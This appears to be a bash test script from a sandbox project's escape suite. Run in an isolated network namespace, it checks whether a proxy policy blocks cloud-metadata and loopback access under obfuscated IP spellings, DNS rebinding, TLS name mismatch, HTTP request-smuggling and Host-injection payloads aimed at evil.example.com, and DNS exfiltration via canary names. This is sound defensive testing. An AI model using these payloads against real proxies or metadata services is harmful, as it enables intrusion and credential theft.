#!/bin/bash
# proxy.sh: attacks through the proxy of a policy that lets a job reach named hosts. TAP, a line an attack.
# All of it happens in a network namespace that holds nothing but a loopback with some more addresses,
# and in a mount namespace whose names of hosts are the test's.
set -u

if [ "$(id -u)" != 0 ]; then
	# shellcheck source=tests/escape/say.bash
	. "$(dirname "$0")/say.bash"
	skipped "E8 what goes around a proxy" "it takes root to give addresses and names to a network"
	echo 1..1
	exit 0
fi
[ -n "${PROXY_ALONE-}" ] || PROXY_ALONE=1 exec unshare --net --mount "$0"

# shellcheck source=tests/escape/rig.bash
. "$(dirname "$0")/rig.bash"

ip link set lo up
ip addr add 192.0.3.7/32 dev lo
ip addr add 169.254.169.254/32 dev lo
cat >"$tmp/hosts" <<-END
	127.0.0.1 localhost inside.example.com
	192.0.3.7 public.example.com
	169.254.169.254 metadata.example.com
END
echo 'nameserver 127.0.0.1' >"$tmp/resolv.conf"
chmod 644 "$tmp/hosts" "$tmp/resolv.conf"
for file in hosts resolv.conf; do
	mount --bind "$tmp/$file" "$(readlink -f /etc/$file)" || { echo "1..0 # SKIP /etc/$file cannot be replaced"; exit 0; }
done
cat >"$tmp/policy.yml" <<-END
	name: named
	network:
	  mode: proxy
	  allow: [public.example.com:8080, metadata.example.com:8080, inside.example.com:8080, rebind.example.com:8080, 192.0.3.7:8080]
END
chmod 644 "$tmp/policy.yml"
mkdir "$tmp/there"
python3 "$here/proxy.py" serve "$tmp/there" &
helpers+=($!)
within 10 test -e "$tmp/there/ready"
for who in $(users); do cp "$here/proxy.py" "$tmp/$who/"; done
cp "$here/proxy.py" "$tmp/outside/"
snapshot >"$tmp/before" 2>/dev/null

# ask WHO COMMAND [ARGUMENT...]: in a cell with that policy
ask() {
	local who=$1
	shift
	inside "$who" --policy "$tmp/policy.yml" -- python3 proxy.py "$@" | head -n 1
}

# through "ROW" CONTROL COMMAND [ARGUMENT...]: CONTROL is what the same finds open without a cell
through() {
	local name=$1 open=$2 who
	shift 2
	for who in $(users); do
		judge "$name, as $who" "$(ask "$who" "$@")" "$open"
	done
}

# unseen FILE PATTERN HELD: what became of an attack that leaves its trace with the server
unseen() {
	if grep -qE -- "$2" "$tmp/there/$1"; then
		echo "open: $(grep -E -m 1 -- "$2" "$tmp/there/$1")"
	else
		echo "held: $3"
	fi
}

direct() { (cd "$tmp/outside" && python3 proxy.py direct "$@"); }

# without this every row below would hold
for who in $(users); do
	said=$(ask "$who" hosts public.example.com:8080 192.0.3.7:8080)
	case $said in
	open:*) pass "beyond a proxy serves what the policy names, as $who" ;;
	*) fail "beyond a proxy serves what the policy names, as $who" "$said" "$(tail -n 5 "$tmp/stderr")" ;;
	esac
done

through "E2 the metadata service under its names and spellings, through a proxy" "$(direct 169.254.169.254:8080)" \
	hosts metadata.example.com:8080 169.254.169.254:8080 2852039166:8080 0xa9fea9fe:8080 0251.0376.0251.0376:8080 \
	'[::ffff:169.254.169.254]:8080' '[fd00:ec2::254]:8080' METADATA.example.com.:8080 169.254.169.254:80
through "E2 a redirection to the metadata service" "$(direct 169.254.169.254:8080)" redirect
through "E3 the host's loopback, through a proxy" "$(direct 127.0.0.1:8080)" \
	hosts inside.example.com:8080 localhost:8080 127.0.0.1:8080 127.1:8080 2130706433:8080 0x7f000001:8080 0177.0.0.1:8080 \
	0.0.0.0:8080 0:8080 '[::1]:8080' '[::]:8080' '[::ffff:127.0.0.1]:8080' 127.0.0.1:53
through "E8 the allowed host's address under other spellings" "$(direct 192.0.3.7:8080)" \
	hosts 3221226247:8080 0xc0000307:8080 0300.0.3.7:8080 192.0.775:8080 192.000.003.007:8080 '[::ffff:192.0.3.7]:8080'

# The second look-up leads to the loopback: nobody comes there, whoever looks.
for who in $(users); do
	: >"$tmp/there/reached"
	ask "$who" hosts rebind.example.com:8080 rebind.example.com:8080 >/dev/null
	sleep 0.2
	judge "E8 a name that leads elsewhere the second time, as $who" \
		"$(unseen reached '^127\.0\.0\.1 ' "$(grep -c rebind.example.com "$tmp/there/asked") look-ups, the loopback was not reached")" \
		"$(direct 127.0.0.1:8080)"
done

# The control is a client that asks for the server it was allowed: it gets there.
for who in $(users); do
	: >"$tmp/there/reached"
	ask "$who" tls public.example.com >/dev/null
	sleep 0.2
	open=$(unseen reached '^192\.0\.3\.7 b.\\x16' '')
	: >"$tmp/there/reached"
	ask "$who" tls metadata.example.com >/dev/null
	sleep 0.2
	judge "E8 a TLS client that asks for another server than its tunnel, as $who" \
		"$(unseen reached '\\x16' 'its first bytes never arrived')" "$open"
done

for who in $(users); do
	: >"$tmp/there/reached"
	ask "$who" heads 'GET http://public.example.com:8080/ HTTP/1.1\r\n\r\n' >/dev/null
	sleep 0.2
	open=$(unseen reached public.example.com '')
	: >"$tmp/there/reached"
	ask "$who" heads \
		'GET http://public.example.com:8080/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n' \
		'GET http://public.example.com:8080/ HTTP/1.1\r\nHost: public.example.com:8080\r\nHost: evil.example.com\r\n\r\n' \
		'GET http://public.example.com:8080/ HTTP/1.1\r\n Host: evil.example.com\r\n\r\n' \
		'GET http://public.example.com:8080/ HTTP/1.1\nHost: evil.example.com\n\r\n\r\n' \
		'GET http://public.example.com:8080@evil.example.com/ HTTP/1.1\r\n\r\n' \
		'GET http://public.example.com:8080/\rHost:evil.example.com HTTP/1.1\r\n\r\n' \
		'GET http://public.example.com:8080/ HTTP/1.1\r\nA: b\rHost: evil.example.com\r\n\r\n' \
		'GET http://public.example.com:8080/ HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.com\r\n\r\n' \
		'POST http://public.example.com:8080/ HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: 99\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.com\r\n\r\n' \
		'POST http://public.example.com:8080/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.com\r\n\r\n' \
		'CONNECT public.example.com:8080\r\nHost: evil.example.com HTTP/1.1\r\n\r\n' >/dev/null
	sleep 0.2
	judge "E8 another host or request hidden in a head, as $who" "$(unseen reached evil 'the server never saw it')" "$open"
done

for who in $(users); do
	: >"$tmp/there/asked"
	(cd "$tmp/outside" && python3 proxy.py lookup canary1.evil.example.com >/dev/null)
	open=$(unseen asked canary1 '')
	ask "$who" hosts canary2.evil.example.com:443 canary2.evil.example.com:8080 >/dev/null
	judge "E7 a secret in a name that the proxy is asked for, as $who" \
		"$(unseen asked canary2 'no name server was asked')" "$open"
done

for who in $(users); do
	said=$(ask "$who" flood)
	case $said in
	held:*) pass "beyond 300 clients of the proxy that say nothing, as $who: ${said#held: }" ;;
	*) fail "beyond 300 clients of the proxy that say nothing, as $who" "$said" "$(tail -n 5 "$tmp/stderr")" ;;
	esac
done
echo "1..$tests"
exit $((failed > 0))
